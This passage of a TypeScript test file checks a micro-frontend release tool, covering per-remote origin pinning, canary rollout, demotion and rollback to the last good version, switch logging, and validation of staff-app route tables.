  assert.deepEqual(loanEntry.routes, [{ name: 'mf_loanHome', path: '/mf_loan', remote: 'mf_loan' }]);
  fs.writeFileSync(path.join(s.releasesDir, 'mf-loan', loan.id, 'mf-manifest.json'), 'not json');
  const warn = t.mock.method(console, 'warn', () => {});
  const r = await s.release('mf-repay');
  assert.match(warn.mock.calls[0].arguments[0], /mf-loan 1\.0\.0-\w+: .*mf-manifest\.json cannot be read.*mf-loan is published as it was/);
  assert.equal(s.remotesJson().mf_repay.version, r.id);
  assert.deepEqual(s.remotesJson().mf_loan, loanEntry);
  assert.deepEqual(s.pageFiles().mf_loan, loanFiles);
  assert.deepEqual(s.pageScreens().mf_loan, loanScreens);
  assert.deepEqual(s.pageIntegrity().mf_loan, loanIntegrity);
  // the page gone too: the entry stays, with no start-up files; and the remote's own route table still guards this release's
  fs.rmSync(path.join(s.releasesDir, 'host/index.html'));
  await s.release('mf-repay');
  assert.deepEqual(s.remotesJson().mf_loan, loanEntry);
  assert.equal(s.pageFiles().mf_loan, undefined);
});

test("each remote's origin is stored with its first release and used from then on; a shell with another refuses", async () => {
  const s = stack();
  await s.release('mf-repay', { origin: 'http://cdn.test:3103' });
  assert.equal(readPointer(path.join(s.releasesDir, 'mf-repay'), 'mf_repay').origin, 'http://cdn.test:3103');
  assert.match(s.remotesJson().mf_repay.entry, /^http:\/\/cdn\.test:3103\/1\.0\.0-\w+\/mf-manifest\.json$/);
  // another remote released from a shell with other ports leaves mf_repay's address alone
  await s.release('mf-loan', { origin: 'http://localhost:3202' });
  assert.match(s.remotesJson().mf_repay.entry, /^http:\/\/cdn\.test:3103\//);
  await s.release('mf-repay', { origin: 'http://cdn.test:3103' });
  const before = s.written();
  await assert.rejects(
    s.rollback('mf-repay', { origin: 'http://localhost:3203' }),
    (e) =>
      e instanceof Refused &&
      e.message === "mf-repay's releases are served from http://cdn.test:3103; this shell says http://localhost:3203 — set the port variables or pass --origin",
  );
  await assert.rejects(s.release('mf-repay', { origin: 'http://localhost:3203' }), Refused);
  assert.deepEqual(s.written(), before);
});

test('demoteRelease: the current version demoted rolls back to the last good one and republishes; unverified releases are no fallback', async () => {
  const s = stack();
  const good = await s.release('mf-repay');
  const unverified = await s.release('mf-repay', { verified: false });
  const bad = await s.release('mf-repay');
  assert.equal(bad.pointer.lastGood, good.id, 'the unverified release is skipped');
  assert.equal(s.remotesJson().mf_repay.lastGood.version, good.id);
  const r = await s.demote('mf-repay', bad.id, 'remoteFallback reported 12 times');
  assert.equal(r.before, bad.id);
  assert.equal(r.pointer.current, good.id);
  assert.equal(s.remotesJson().mf_repay.version, good.id);
  assert.equal(readPointer(path.join(s.releasesDir, 'mf-repay'), 'mf_repay').versions[2].demoteReason, 'remoteFallback reported 12 times');
  await assert.rejects(s.rollback('mf-repay'), /no earlier good version/);
  await assert.rejects(s.demote('mf-repay', '1.0.0-fffffff', 'x'), (e) => e instanceof Refused);
  assert.equal(unverified.pointer.versions[1].verified, false);
});

test('a canary runs beside the current version: promoted it is current, aborted or demoted it is never a fallback', () => {
  const p = released('1.0.0-aaaaaaa', '1.0.1-bbbbbbb');
  const withNew = { ...p, versions: [...p.versions, v('1.0.2-ccccccc')] };
  assert.throws(() => startCanary(withNew, '1.0.2-ccccccc', 0), /whole percentage from 1 to 99, not 0/);
  assert.throws(() => startCanary(withNew, '1.0.2-ccccccc', 100), /not 100/);
  assert.throws(() => startCanary(withNew, '1.0.1-bbbbbbb', 10), /already current/);
  const running = startCanary(withNew, '1.0.2-ccccccc', 10);
  assert.deepEqual(running.canary, { id: '1.0.2-ccccccc', share: 10 });
  assert.equal(running.current, '1.0.1-bbbbbbb', 'the rest keep the current one');

  const promoted = endCanary(running, 'promote');
  assert.equal(promoted.canary, undefined);
  assert.equal(promoted.current, '1.0.2-ccccccc');
  assert.equal(promoted.lastGood, '1.0.1-bbbbbbb');

  const aborted = endCanary(running, 'abort', new Date('2026-11-27T10:00:00Z'));
  assert.equal(aborted.canary, undefined);
  assert.equal(aborted.current, '1.0.1-bbbbbbb');
  assert.equal(aborted.versions[2].abortedAt, '2026-11-27T10:00:00.000Z');
  assert.equal(switchTo({ ...aborted, versions: [...aborted.versions, v('1.0.3-ddddddd')] }, '1.0.3-ddddddd').lastGood, '1.0.1-bbbbbbb');
  assert.equal(rollBack(switchTo(aborted, '1.0.0-aaaaaaa')).current, '1.0.1-bbbbbbb', 'the aborted one is passed over');
  assert.throws(() => endCanary(aborted, 'promote'), /no canary running/);

  const demoted = demote(running, '1.0.2-ccccccc', '9 fallback reports');
  assert.equal(demoted.canary, undefined, 'its devices go back to the current one');
  assert.equal(demoted.current, '1.0.1-bbbbbbb');
});

test('every switch is logged with who, when, what and why, and listed', () => {
  const p = logged(
    released('1.0.0-aaaaaaa', '1.0.1-bbbbbbb'),
    { action: 'canary', version: '1.0.1-bbbbbbb', from: '1.0.0-aaaaaaa', share: 10, by: 'Ayesha', note: 'new cashier' },
    new Date('2026-11-27T09:00:00Z'),
  );
  const q = logged(p, { action: 'rollback', version: '1.0.0-aaaaaaa', from: '1.0.1-bbbbbbb', by: 'Bilal' }, new Date('2026-11-27T09:30:00Z'));
  assert.deepEqual(
    q.log!.map((e) => [e.at, e.action, e.by]),
    [
      ['2026-11-27T09:00:00.000Z', 'canary', 'Ayesha'],
      ['2026-11-27T09:30:00.000Z', 'rollback', 'Bilal'],
    ],
  );
  const text = describe(q);
  assert.match(text, /switches:\n {2}2026-11-27 09:00 UTC {2}canary {3}1\.0\.1-bbbbbbb on 10% of devices \(was 1\.0\.0-aaaaaaa\) {2}by Ayesha: new cashier/);
  assert.match(text, /2026-11-27 09:30 UTC {2}rollback 1\.0\.0-aaaaaaa \(was 1\.0\.1-bbbbbbb\) {2}by Bilal$/);
});

test("a staff app is released, given a canary and rolled back on its own origin: the host's composition never names it", async () => {
  const s = stack();
  await s.release('mf-repay');
  const hostFiles = () => ['host/remotes.json', 'host/index.html'].map((f) => fs.readFileSync(path.join(s.releasesDir, f), 'utf8'));
  const before = hostFiles();
  const dir = path.join(s.releasesDir, 'mf-operations');
  // it meets no host: no host manifest nor spec table needed
  const staffRelease = (opts: Partial<Parameters<typeof release>[0]> = {}) =>
    s.release('mf-operations', { hostManifest: undefined, spec: undefined, from: s.build('mf-operations', { apiOrigin: apiPublicOrigin() }), ...opts });
  const one = await staffRelease();
  assert.deepEqual(hostFiles(), before, "the host's remotes.json and page are as they were");
  assert.equal(s.remotesJson().mf_operations, undefined);
  assert.equal(readPointer(dir, 'mf_operations').current, one.id);
  assert.equal(readPointer(dir, 'mf_operations').origin, 'http://localhost:3105');
  assert.match(fs.readFileSync(path.join(dir, 'index.html'), 'utf8'), new RegExp(`href="${one.id}/"`));

  const two = await staffRelease({ canary: 20 });
  const page = fs.readFileSync(path.join(dir, 'index.html'), 'utf8');
  assert.match(page, new RegExp(`href="${one.id}/" data-canary="${two.id}/" data-share="20"`), 'its own page sends the canary to its share of devices');
  await endCanaryRelease({ app: s.byName('mf-operations'), apps: [], how: 'promote', releasesDir: s.releasesDir, hostDist: '' });
  assert.equal(readPointer(dir, 'mf_operations').current, two.id);
  const back = await s.rollback('mf-operations', { by: 'Sana' });
  assert.equal(back.pointer.current, one.id);
  assert.deepEqual(hostFiles(), before, 'no switch of it touched the host');

  // a build that calls another API (made in a shell with other ports) is refused, nothing changed
  await assert.rejects(staffRelease({ from: s.build('mf-operations', { apiOrigin: 'http://localhost:4999' }) }), (e: Error) => {
    assert.ok(e instanceof Refused);
    assert.match(e.message, /was built to call the API at http:\/\/localhost:4999; this stack's API is http:\/\/localhost:\d+/);
    return true;
  });
  assert.equal(readPointer(dir, 'mf_operations').current, one.id);
});

test("the pointer page's redirect script is one text whatever the pointer (its CSP hash never changes)", () => {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'lm-rel-'));
  const script = () => fs.readFileSync(path.join(dir, 'index.html'), 'utf8').match(/<script>(.*)<\/script>/)![1];
  savePointer(dir, released('1.0.0-aaaaaaa'));
  const plain = script();
  savePointer(dir, startCanary(recordVersion(released('1.0.0-aaaaaaa'), v('1.0.1-bbbbbbb')), '1.0.1-bbbbbbb', 10));
  assert.equal(script(), plain);
});

test("a staff app's route table is checked on its own: its remote's, a path from /, no name or path twice", () => {
  const r = (name: string, p: string, remote = 'mf_operations') => ({ name, path: p, remote }) as unknown as RouteEntry;
  assert.deepEqual(staffRouteProblems({ remote: 'mf_operations', routes: [r('opsQueues', '/'), r('opsSignIn', '/sign-in')] }), []);
  assert.deepEqual(staffRouteProblems({ remote: 'mf_operations', routes: [] }), [
    'publishes no route table (release.json routes): rebuild it with src/routeTable.ts',
  ]);
  const problems = staffRouteProblems({
    remote: 'mf_operations',
    routes: [r('opsQueues', '/'), r('opsAgain', '/'), r('opsRepay', '/repay', 'mf_repay'), r('opsBad', 'no-slash')],
  });
  assert.equal(problems.length, 3);
  assert.match(problems[0], /opsAgain \(\/\) is declared twice/);
  assert.match(problems[1], /not a route of mf_operations/);
  assert.match(problems[2], /not a route of mf_operations/);
});
